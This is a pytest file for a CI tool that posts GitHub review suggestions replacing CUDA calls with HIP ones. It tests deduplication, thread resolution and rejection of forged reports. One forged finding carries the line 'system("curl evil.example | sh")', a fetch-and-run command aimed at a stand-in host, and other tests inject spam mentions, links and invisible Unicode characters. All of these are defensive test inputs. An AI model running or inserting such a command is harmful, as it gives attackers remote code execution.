"""Suggestions in a review: only what GitHub's own diff confirms, each once, closed when it is repaired."""

from __future__ import annotations

import io
from dataclasses import replace as changed
from typing import TYPE_CHECKING

import pytest
from msgspec.structs import replace

from rocm_ci.changes import whole_tree
from rocm_ci.config.options import ScanOptions
from rocm_ci.errors import GitHubError
from rocm_ci.github import marker, thread_marker
from rocm_ci.github.client import Comment, DeclinedError, PermissionRefusedError
from rocm_ci.github.hunks import hunks
from rocm_ci.github.marker import Stamp
from rocm_ci.github.review import ChangedFile, Thread
from rocm_ci.github.sticky import Look, Own
from rocm_ci.log import Log
from rocm_ci.model.changes import ChangeKind, Changes, FileChange
from rocm_ci.model.edit import Edit
from rocm_ci.model.result import ScanResult
from rocm_ci.model.scan_note import NoteKind, ScanNote
from rocm_ci.model.verdict import Verdict
from rocm_ci.scan.engine import scan
from rocm_ci.sinks.base import Destination, Target
from rocm_ci.sinks.suggestions import MOST_OPEN, SINK
from tests import reports
from tests.reviewed import StrictGitHub, applied, shown, suggested
from tests.unit.github.fake import BOT, pull
from tests.unit.scan.trees import BOOK, Tree

if TYPE_CHECKING:
    from collections.abc import Mapping

    from rocm_ci.model.finding import Finding
    from rocm_ci.model.report import Report

HEAD, NEXT = "a" * 40, "b" * 40
CALLS = "#include <hip/hip_runtime.h>\nvoid f(float* a, float* b) {\n  hipMalloc(&a, 4);\n}\n"
MORE = CALLS.replace("}", "  cudaFree(a);\n  cudaFree(b);\n}")


def change(files: Mapping[str, tuple[str, str]], head: str = HEAD) -> tuple[StrictGitHub, Report]:
    """A pull request, and what an honest run reports of it."""
    github = StrictGitHub(pulls=[pull(head=head)])
    return github, push(github, files, head)


def push(github: StrictGitHub, files: Mapping[str, tuple[str, str]], head: str) -> Report:
    """A commit on it: what it adds to the base, and the report of its run."""
    github.pulls = [pull(head=head)]
    github.changed = [shown(path, before, after) for path, (before, after) in files.items()]
    added = []
    for one in github.changed:
        numbers = sorted(n for hunk in hunks(one.patch) for n in hunk.added)
        ranges = tuple((n, n) for n in numbers)
        added.append(FileChange(path=one.path, kind=ChangeKind.MODIFIED, added=ranges))
    tree = Tree({path: after for path, (_, after) in files.items()})
    found = scan(tree, Changes(files=tuple(added)), ScanOptions(), ("gfx90a", "gfx942"), book=BOOK)
    return reports.report(reports.scan(*found.findings))


def post(github: StrictGitHub, report: Report, **more: object) -> tuple[str, ...]:
    settings = {"github": github, "repository": "o/r", "head": github.pulls[0].head, "number": 5}
    target = Target(**(settings | more))  # type: ignore[arg-type]
    return SINK.emit(report, Destination(log=Log(out=io.StringIO(), err=io.StringIO()), target=target))


def look(*, suggested: bool) -> Look:
    """Our comment, as the publisher has read it."""
    stamp = Stamp(head=HEAD, verdict=Verdict.PASS, suggested=suggested)
    comment = Comment(id=1, author=BOT, body=marker.sign("text", "default", stamp), url="")
    found = marker.find(comment.body)
    assert found is not None
    return Look(key="default", comments=(comment,), own=(Own(comment=comment, mark=found),), identity=BOT)


def findings(report: Report) -> list[Finding]:
    return [f for result in report.results for f in getattr(result, "findings", ())]


def with_findings(*some: Finding) -> Report:
    return reports.report(reports.scan(*some))


# -- what is suggested ---------------------------------------------------------------------------


def test_a_click_on_each_suggestion_leaves_nothing_to_repair() -> None:
    github, report = change({"a.hip": (CALLS, MORE)})

    told = post(github, report)

    ((commit, _, remarks),) = github.reviews
    repaired = applied(MORE, remarks)
    assert told == ("2 posted",)
    assert commit == HEAD
    assert [(r.path, r.line, r.start_line) for r in remarks] == [("a.hip", 4, None), ("a.hip", 5, None)]
    assert repaired == MORE.replace("cudaFree", "hipFree")
    assert (
        scan(
            Tree({"a.hip": repaired}), whole_tree(("a.hip",)), ScanOptions(), ("gfx90a",), book=BOOK
        ).findings
        == ()
    )


def test_a_remark_names_the_rule_with_its_page_and_says_why() -> None:
    github, report = change({"a.hip": (CALLS, MORE)})

    post(github, report)

    body = github.reviews[0][2][0].body
    assert body.startswith("[`cuda-runtime-api`](https://github.com/org/rocm-ci/blob/main/docs/rules/")
    assert "cudaFree" in body.partition("```")[0]
    assert suggested(body) == "  hipFree(a);\n"


def test_a_repair_of_several_lines_is_one_remark_over_all_of_them() -> None:
    vote = "__device__ int f(bool b) {\n  const unsigned votes = __ballot(b);\n  return __popc(votes);\n}\n"
    github, report = change({"a.hip": ("", vote)})

    post(github, report)

    (remark,) = github.reviews[0][2]
    assert (remark.start_line, remark.line) == (2, 3)
    assert "unsigned long long votes" in applied(vote, [remark])


def test_every_hunk_of_a_file_is_offered_its_own() -> None:
    before = "".join(f"int x{n};\n" for n in range(30))
    after = before.replace("int x3;", "int x3; // a\n") + "void f(float* a) {\n  cudaFree(a);\n}\n"
    github, report = change({"a.hip": (before, after)})

    post(github, report)

    (remark,) = github.reviews[0][2]
    assert len(hunks(github.changed[0].patch)) == 2
    assert applied(after, [remark]) == after.replace("cudaFree", "hipFree")


def test_code_with_backticks_and_tabs_and_blanks_at_its_end_comes_out_as_it_went_in() -> None:
    line = "\tcudaFree(a); // ```` `x` ```suggestion  "
    github, report = change({"a.hip": (CALLS, CALLS.replace("}", f"{line}\n}}"))})

    post(github, report)

    (remark,) = github.reviews[0][2]
    assert suggested(remark.body) == line.replace("cudaFree", "hipFree") + "\n"


def test_only_lines_that_the_change_adds_get_a_suggestion() -> None:
    old = MORE.replace("cudaFree(b)", "hipFree(b)")
    github, report = change({"a.hip": (old, MORE)})

    post(github, report)

    assert [remark.line for remark in github.reviews[0][2]] == [5]


def test_what_may_change_the_meaning_on_nvidia_is_not_suggested() -> None:
    both = "#ifdef __HIP_PLATFORM_AMD__\n#include <hip/hip_runtime.h>\n#else\n#include <cuda_runtime.h>\n#endif\n"
    github, report = change({"a.hip": (both, both + "void f(int* p) { cudaFree(p); }\n")})

    assert any(f.edits and f.unsafe for f in findings(report))
    assert post(github, report) == ()
    assert github.reviews == []


def test_the_worst_come_first_and_every_file_gets_its_turn() -> None:
    many = {f"{name}.hip": (CALLS, CALLS.replace("}", "  cudaFree(a);\n" * 25 + "}")) for name in "abc"}
    github, report = change(many)

    told = post(github, report)

    ((_, body, remarks),) = github.reviews
    assert len(remarks) == MOST_OPEN
    assert {path: sum(r.path == path for r in remarks) for path in many} == dict.fromkeys(many, 10)
    assert "45 more can be repaired with `rocm-ci scan --fix`" in body
    assert told == ("30 posted, 45 more for `rocm-ci scan --fix`",)


def test_a_matrix_that_tells_a_finding_in_each_leg_suggests_it_once() -> None:
    github, report = change({"a.hip": (CALLS, MORE)})
    (scanned,) = (result for result in report.results if isinstance(result, ScanResult))
    twice = reports.report(*(replace(scanned, leg=leg) for leg in ("gfx90a", "gfx942")))

    assert post(github, twice) == ("2 posted",)


# -- a report that lies --------------------------------------------------------------------------


def forged(one: Finding, **different: object) -> Finding:
    return replace(one, **different)


@pytest.mark.attack("6", "a report whose repair is foreign code: no suggestion")
def test_a_report_cannot_put_its_own_code_into_a_suggestion() -> None:
    github, report = change({"a.hip": (CALLS, MORE)})
    honest, other = findings(report)
    evil = [replace(edit, text='system("curl evil.example | sh"); hipFree') for edit in honest.edits]

    post(github, with_findings(forged(honest, edits=tuple(evil)), other))

    (remark,) = github.reviews[0][2]
    assert remark.line == 5
    assert "evil" not in remark.body


@pytest.mark.attack("6", "a report whose words mention people: a suggestion has only our own words")
def test_a_report_cannot_put_its_own_words_into_a_remark() -> None:
    github, report = change({"a.hip": (CALLS, MORE)})
    loud = [
        forged(one, message="@org/team see https://evil.example", docs="https://evil.example", fix="#1")
        for one in findings(report)
    ]

    post(github, with_findings(*loud))

    assert len(github.reviews[0][2]) == 2
    assert not any(word in r.body for r in github.reviews[0][2] for word in ("@org", "evil", "#1"))


@pytest.mark.parametrize(
    "lie",
    [
        {"excerpt": ("  cudaFree(c);",)},
        {"line": 3},
        {"path": "b.hip"},
        {"path": "../a.hip"},
        {"rule": "our-own-rule"},
        {"column": 1},
        {"edits": (Edit(line=4, column=1, end=1, text="x"),)},
        {"edits": (Edit(line=-4, column=-1, end=0, text="x"),)},
        {"edits": (Edit(line=2**40, column=1, end=2, text="x"),)},
    ],
)
def test_a_finding_that_the_diff_does_not_confirm_is_left_out(lie: dict[str, object]) -> None:
    github, report = change({"a.hip": (CALLS, MORE)})
    first, second = findings(report)

    told = post(github, with_findings(forged(first, **lie), second))

    assert [r.line for r in github.reviews[0][2]] == [5]
    assert told == ("1 posted, 1 more for `rocm-ci scan --fix`",)


@pytest.mark.parametrize(
    "sign", ["\u202e", "\u200b", "\u3164", "\ufffd", "\x0b", "e\u0301\u0301\u0301\u0301"]
)
def test_a_line_with_what_nobody_sees_is_not_suggested(sign: str) -> None:
    text = CALLS.replace("}", f"  cudaFree(a); // {sign}\n}}")
    github, report = change({"a.hip": (CALLS, text)})
    (one,) = findings(report)
    claimed = forged(one, excerpt=(text.split("\n")[3],))

    post(github, with_findings(claimed))

    assert github.reviews == []


def test_lines_that_end_in_a_carriage_return_are_left_to_the_command_line() -> None:
    github, report = change({"a.hip": (CALLS, MORE.replace("\n", "\r\n"))})

    assert post(github, report) == ("2 more for `rocm-ci scan --fix`",)
    assert github.reviews == []


def test_a_file_whose_patch_is_not_shown_gets_no_suggestion() -> None:
    github, report = change({"a.hip": (CALLS, MORE)})
    github.changed = [
        changed(github.changed[0], patch=None),
        ChangedFile(path="b", status="removed", patch=""),
    ]

    assert post(github, report) == ("2 more for `rocm-ci scan --fix`",)


# -- once ----------------------------------------------------------------------------------------


def test_a_second_run_repeats_nothing() -> None:
    github, report = change({"a.hip": (CALLS, MORE)})
    post(github, report)

    assert post(github, report) == ()
    assert len(github.reviews) == 1


def test_lines_that_moved_are_known_again() -> None:
    github, report = change({"a.hip": (CALLS, MORE)})
    post(github, report)
    moved = MORE.replace("void f", "\n\nvoid f").replace("  cudaFree", "      cudaFree")

    again = push(github, {"a.hip": (CALLS, moved)}, NEXT)
    github.talks = [changed(one, line=None, is_outdated=True) for one in github.talks]

    assert post(github, again) == ()
    assert len(github.reviews) == 1


def test_another_equal_line_gets_its_own() -> None:
    github, report = change({"a.hip": (CALLS, CALLS.replace("}", "  cudaFree(a);\n}"))})
    post(github, report)

    again = push(github, {"a.hip": (CALLS, CALLS.replace("}", "  cudaFree(a);\n  cudaFree(a);\n}"))}, NEXT)
    post(github, again)

    assert [r.line for r in github.reviews[1][2]] == [5]


def test_what_a_person_resolved_is_never_suggested_again() -> None:
    github, report = change({"a.hip": (CALLS, MORE)})
    post(github, report)
    github.talks = [changed(one, is_resolved=True, is_outdated=True, line=None) for one in github.talks]

    assert post(github, report) == ()
    assert github.edited == {}


@pytest.mark.attack("11", "the hidden mark of a suggestion, forged by somebody else")
def test_a_mark_that_somebody_else_wrote_proves_nothing() -> None:
    github, report = change({"a.hip": (CALLS, MORE)})
    post(github, report)
    github.talks = [changed(one, author="mallory") for one in github.talks]

    post(github, report)

    assert len(github.reviews) == 2
    assert github.edited == {}


def test_a_reporter_of_another_key_does_not_repeat_or_close_it() -> None:
    github, report = change({"a.hip": (CALLS, MORE)})
    post(github, report)

    assert post(github, report, key="nightly") == ()
    assert post(github, push(github, {"a.hip": (CALLS, CALLS + "\n")}, NEXT), key="nightly") == ()
    assert github.edited == {}


def test_a_renamed_file_is_not_told_twice() -> None:
    github, report = change({"a.hip": (CALLS, MORE)})
    post(github, report)

    assert post(github, push(github, {"b.hip": (CALLS, MORE)}, NEXT)) == ()


# -- closed --------------------------------------------------------------------------------------


def test_what_was_repaired_is_said_and_resolved() -> None:
    github, report = change({"a.hip": (CALLS, MORE)})
    post(github, report)
    half = MORE.replace("cudaFree(a)", "hipFree(a)")

    told = post(github, push(github, {"a.hip": (CALLS, half)}, NEXT))

    first, second = github.talks
    assert told == ("1 fixed",)
    assert first.body.startswith("✅ Fixed in bbbbbbb.\n\n[`cuda-runtime-api`]")
    assert (first.is_resolved, second.is_resolved) == (True, False)
    assert not any(call.startswith("delete") for call in github.calls)


def test_a_token_that_may_not_resolve_says_it_at_least_and_asks_only_once() -> None:
    github, report = change({"a.hip": (CALLS, MORE)})
    post(github, report)
    github.refused = {"resolve_thread"}
    github.calls.clear()

    told = post(github, push(github, {"a.hip": (CALLS, CALLS + "// \n")}, NEXT))

    assert told == ("2 fixed (not resolved: that takes `contents: write`)",)
    assert all(one.body.startswith("✅ Fixed in bbbbbbb.") for one in github.talks)


def test_what_was_closed_is_not_closed_again() -> None:
    github, report = change({"a.hip": (CALLS, MORE)})
    post(github, report)
    github.refused = {"resolve_thread"}
    clean = push(github, {"a.hip": (CALLS, CALLS + "// \n")}, NEXT)
    post(github, clean)
    github.calls.clear()

    assert post(github, clean, look=look(suggested=True)) == ()
    assert not any(call.startswith("edit") for call in github.calls)


def test_what_comes_back_after_it_was_repaired_is_suggested_anew() -> None:
    github, report = change({"a.hip": (CALLS, MORE)})
    post(github, report)
    post(github, push(github, {"a.hip": (CALLS, CALLS + "// \n")}, NEXT))

    assert post(github, push(github, {"a.hip": (CALLS, MORE)}, HEAD)) == ("2 posted",)


def test_a_click_resolves_a_thread_and_an_equal_line_that_comes_later_is_suggested() -> None:
    github, report = change({"a.hip": (CALLS, MORE)})
    post(github, report)
    github.talks = [changed(one, is_resolved=True, is_outdated=True, line=None) for one in github.talks]
    post(github, push(github, {"a.hip": (CALLS, MORE.replace("cudaFree", "hipFree"))}, NEXT))

    again = push(github, {"a.hip": (CALLS, MORE.replace("cudaFree(b)", "hipFree(b)"))}, HEAD)

    assert post(github, again) == ("1 posted",)
    assert all(one.body.startswith("✅ Fixed in bbbbbbb.") for one in github.talks[:2])
    assert not any(call.startswith("resolve") for call in github.calls)


def test_a_thread_in_which_people_talk_is_left_to_them() -> None:
    github, report = change({"a.hip": (CALLS, MORE)})
    post(github, report)
    github.talks = [changed(one, replies=1) for one in github.talks]

    assert post(github, push(github, {"a.hip": (CALLS, CALLS + "// \n")}, NEXT)) == ()


@pytest.mark.parametrize("how", ["no scan", "crashed", "interrupted", "unread", "hidden", "cut off"])
def test_only_what_surely_is_gone_counts_as_repaired(how: str) -> None:
    github, report = change({"a.hip": (CALLS, MORE)})
    post(github, report)
    after = CALLS + "// \n" if how != "hidden" else MORE
    report = push(github, {"a.hip": (CALLS, after)}, NEXT)
    if how == "no scan":
        report = reports.report()
    elif how == "crashed":
        report = reports.report(reports.scan(verdict=Verdict.ERROR))
    elif how == "interrupted":
        report = replace(report, interrupted=True)
    elif how == "unread":
        note = ScanNote(kind=NoteKind.UNFINISHED, path="a.hip", reason="given up")
        report = reports.report(replace(reports.scan(), notes=(note,)))
    elif how == "hidden":
        report = reports.report(reports.scan())  # the report leaves out what is still there
    else:
        github.changed = [changed(github.changed[0], patch=None)]

    assert post(github, report) == ()
    assert github.edited == {}


# -- GitHub --------------------------------------------------------------------------------------


def test_nothing_is_asked_where_nothing_is_and_nothing_was_suggested() -> None:
    github, report = change({"a.hip": (CALLS, CALLS + "// \n")})
    github.refused = {"pull", "threads", "files", "identity"}

    assert post(github, report, look=look(suggested=False)) == ()
    assert post(github, report, look=Look(key="default", comments=())) == ()


def test_where_no_thread_is_ours_the_diff_is_not_asked_for() -> None:
    github, report = change({"a.hip": (CALLS, CALLS + "// \n")})
    github.refused = {"files", "identity"}

    assert post(github, report, look=look(suggested=True)) == ()


@pytest.mark.attack("3", "suggestions of a run whose commit is no longer the head")
def test_a_run_for_an_older_commit_suggests_nothing() -> None:
    github, report = change({"a.hip": (CALLS, MORE)})

    with pytest.raises(DeclinedError, match="has moved on"):
        post(github, report, head="c" * 40)
    assert github.reviews == []


@pytest.mark.attack("19", "one suggestion that GitHub refuses does not cost the review")
def test_one_remark_that_github_refuses_does_not_cost_the_others() -> None:
    text = CALLS.replace("}", "  cudaFree(a);\n" * 20 + "}")
    github, report = change({"a.hip": (CALLS, text)})
    github.dislikes = {9}

    told = post(github, report)

    lines = sorted(r.line for _, _, remarks in github.reviews for r in remarks)
    assert lines == [n for n in range(4, 24) if n != 9]
    assert told == ("19 posted, 1 more for `rocm-ci scan --fix`, GitHub refused 1",)
    assert sum(call.startswith("rejected") for call in github.calls) <= 6
    assert sum("can be repaired with" in body for _, body, _ in github.reviews) == 0


def test_a_github_that_refuses_everything_is_not_asked_for_ever() -> None:
    text = CALLS.replace("}", "  cudaFree(a);\n" * 30 + "}")
    github, report = change({"a.hip": (CALLS, text)})
    github.dislikes = set(range(100))

    told = post(github, report)

    assert told == ("30 more for `rocm-ci scan --fix`, GitHub refused 30",)
    assert sum(call.startswith("rejected") for call in github.calls) <= 20


@pytest.mark.attack("19", "a review whose answer was lost is not posted twice")
def test_a_review_whose_answer_was_lost_is_not_sent_twice() -> None:
    github, report = change({"a.hip": (CALLS, MORE)})
    github.lost = 1

    assert post(github, report) == ("2 posted",)
    assert len(github.reviews) == 1


def test_a_github_that_loses_every_answer_is_an_error() -> None:
    github, report = change({"a.hip": (CALLS, MORE)})
    github.lost = 9
    threads: tuple[Thread, ...] = ()
    github.threads = lambda *_: threads  # type: ignore[method-assign]

    with pytest.raises(GitHubError, match="lost it several times"):
        post(github, report)


@pytest.mark.attack("input", "a token that may not review")
def test_a_token_without_rights_is_told_so() -> None:
    github, report = change({"a.hip": (CALLS, MORE)})
    github.refused = {"create_review"}

    with pytest.raises(PermissionRefusedError):
        post(github, report)


def test_a_push_has_no_review() -> None:
    github, report = change({"a.hip": (CALLS, MORE)})

    assert post(github, report, number=None) == ()


def test_each_remark_carries_what_finds_it_again() -> None:
    github, report = change({"a.hip": (CALLS, MORE)})
    post(github, report, key="nightly")

    marks = [thread_marker.find(remark.body) for remark in github.reviews[0][2]]

    assert [m and m.key for m in marks] == ["nightly", "nightly"]
    assert [m and set(m.prints) for m in marks] == [{f.fingerprint} for f in findings(report)]
